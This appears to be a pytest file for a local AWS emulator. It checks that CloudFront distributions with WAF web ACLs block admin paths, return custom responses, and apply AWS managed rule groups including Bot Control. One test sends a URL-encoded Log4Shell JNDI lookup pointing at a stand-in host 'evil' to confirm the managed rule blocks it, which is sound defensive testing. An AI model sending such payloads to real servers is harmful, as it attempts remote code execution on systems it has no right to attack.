"""A CLOUDFRONT web ACL named by a distribution's WebACLId filters the distribution's viewer requests before
its cache: CloudFront's 403 "Request blocked." page, or the web ACL's custom response; AWS managed rule
groups filter there too."""

from __future__ import annotations

import json
import sys
import urllib.request
from pathlib import Path
from typing import Any

from labcloud.testing.server_process import LabcloudProcess

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "cloudfront"))
from cf_helpers import config, http, s3_origin  # noqa: E402


def vis(name: str) -> dict[str, Any]:
    return {"SampledRequestsEnabled": True, "CloudWatchMetricsEnabled": False, "MetricName": name}


def test_a_distributions_web_acl_blocks_at_the_edge(labcloud: LabcloudProcess, wafv2: Any) -> None:
    s3 = labcloud.boto3_client("s3")
    s3.create_bucket(Bucket="edge-site")
    s3.put_object(Bucket="edge-site", Key="index.html", Body=b"<h1>home</h1>", ContentType="text/html")
    s3.put_object(Bucket="edge-site", Key="admin.html", Body=b"secret", ContentType="text/html")
    public = {
        "Effect": "Allow",
        "Principal": "*",
        "Action": "s3:GetObject",
        "Resource": "arn:aws:s3:::edge-site/*",
    }
    s3.put_bucket_policy(
        Bucket="edge-site", Policy=json.dumps({"Version": "2012-10-17", "Statement": [public]})
    )
    admin = {
        "ByteMatchStatement": {
            "SearchString": "/admin",
            "FieldToMatch": {"UriPath": {}},
            "TextTransformations": [{"Priority": 0, "Type": "NONE"}],
            "PositionalConstraint": "STARTS_WITH",
        }
    }
    teapot = {"CustomResponse": {"ResponseCode": 418, "CustomResponseBodyKey": "tea"}}
    rules = [
        {
            "Name": "admin",
            "Priority": 0,
            "Statement": admin,
            "Action": {"Block": {}},
            "VisibilityConfig": vis("admin"),
        },
        {
            "Name": "teapot",
            "Priority": 1,
            "Statement": {
                "ByteMatchStatement": dict(
                    admin["ByteMatchStatement"], SearchString="/tea", PositionalConstraint="EXACTLY"
                )
            },
            "Action": {"Block": teapot},
            "VisibilityConfig": vis("teapot"),
        },
    ]
    acl = wafv2.create_web_acl(
        Name="edge",
        Scope="CLOUDFRONT",
        DefaultAction={"Allow": {}},
        Rules=rules,
        VisibilityConfig=vis("edge"),
        CustomResponseBodies={"tea": {"ContentType": "TEXT_PLAIN", "Content": "short and stout"}},
    )["Summary"]
    cf = labcloud.boto3_client("cloudfront")
    dist = cf.create_distribution(
        DistributionConfig=config(
            "waf", s3_origin("edge-site"), WebACLId=acl["ARN"], DefaultRootObject="index.html"
        )
    )["Distribution"]["Id"]
    base = f"{labcloud.endpoint}/_labcloud/cloudfront/{dist}"
    assert http(base + "/")[0] == 200
    status, headers, body = http(base + "/admin.html")
    assert (status, headers["Content-Type"]) == (403, "text/html") and b"Request blocked." in body
    status, headers, body = http(base + "/tea")
    assert (status, body, headers["Content-Type"]) == (418, b"short and stout", "text/plain")


def test_a_web_acl_id_must_name_a_cloudfront_web_acl(labcloud: LabcloudProcess, wafv2: Any) -> None:
    regional = wafv2.create_web_acl(
        Name="regional", Scope="REGIONAL", DefaultAction={"Allow": {}}, VisibilityConfig=vis("regional")
    )["Summary"]
    cf = labcloud.boto3_client("cloudfront")
    for given in (regional["ARN"], "473e64fd-f30b-4765-81a0-62ad96dd167a"):  # REGIONAL; a WAF Classic id
        try:
            cf.create_distribution(
                DistributionConfig=config(f"bad-{given[-4:]}", s3_origin("nowhere"), WebACLId=given)
            )
        except cf.exceptions.InvalidWebACLId:
            continue
        raise AssertionError(f"{given} accepted")


def test_managed_rule_groups_at_the_edge(labcloud: LabcloudProcess, wafv2: Any) -> None:
    s3 = labcloud.boto3_client("s3")
    s3.create_bucket(Bucket="edge-managed")
    s3.put_object(Bucket="edge-managed", Key="index.html", Body=b"<h1>home</h1>", ContentType="text/html")
    public = {
        "Effect": "Allow",
        "Principal": "*",
        "Action": "s3:GetObject",
        "Resource": "arn:aws:s3:::edge-managed/*",
    }
    s3.put_bucket_policy(
        Bucket="edge-managed", Policy=json.dumps({"Version": "2012-10-17", "Statement": [public]})
    )
    rules = [
        {
            "Name": f"AWS-{name}",
            "Priority": i,
            "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": name}},
            "OverrideAction": {"None": {}},
            "VisibilityConfig": vis(name),
        }
        for i, name in enumerate(
            ["AWSManagedRulesKnownBadInputsRuleSet", "AWSManagedRulesAdminProtectionRuleSet"]
        )
    ]
    acl = wafv2.create_web_acl(
        Name="edge-managed",
        Scope="CLOUDFRONT",
        DefaultAction={"Allow": {}},
        Rules=rules,
        VisibilityConfig=vis("e"),
    )["Summary"]
    cf = labcloud.boto3_client("cloudfront")
    dist = cf.create_distribution(
        DistributionConfig=config(
            "waf-managed", s3_origin("edge-managed"), WebACLId=acl["ARN"], DefaultRootObject="index.html"
        )
    )["Distribution"]["Id"]
    base = f"{labcloud.endpoint}/_labcloud/cloudfront/{dist}"
    assert http(base + "/")[0] == 200
    status, _headers, body = http(base + "/admin/login")  # AdminProtection_URIPATH
    assert status == 403 and b"Request blocked." in body
    assert http(base + "/?v=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D")[0] == 403  # Log4JRCE_QUERYSTRING
    assert http(base + "/?v=plain")[0] == 200
    # Bot Control with no config (COMMON, as the cloudfront-apigw-rest-api-lambda-dynamodb-sam pattern has it):
    # urllib's own User-Agent is an HTTP library's, a browser's and a verified search engine's pass
    bots = {
        "Name": "AWS-AWSManagedRulesBotControl",
        "Priority": 6,
        "Statement": {
            "ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesBotControlRuleSet"}
        },
        "OverrideAction": {"None": {}},
        "VisibilityConfig": vis("bots"),
    }
    wafv2.update_web_acl(
        Name="edge-managed",
        Scope="CLOUDFRONT",
        Id=acl["Id"],
        DefaultAction={"Allow": {}},
        Rules=[*rules, bots],
        VisibilityConfig=vis("e"),
        LockToken=acl["LockToken"],
    )
    status, _headers, body = http(base + "/")
    assert status == 403 and b"Request blocked." in body
    for agent in ("Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (compatible; bingbot/2.0)"):
        request = urllib.request.Request(base + "/", headers={"User-Agent": agent})
        with urllib.request.urlopen(request, timeout=30) as response:
            assert response.status == 200, agent
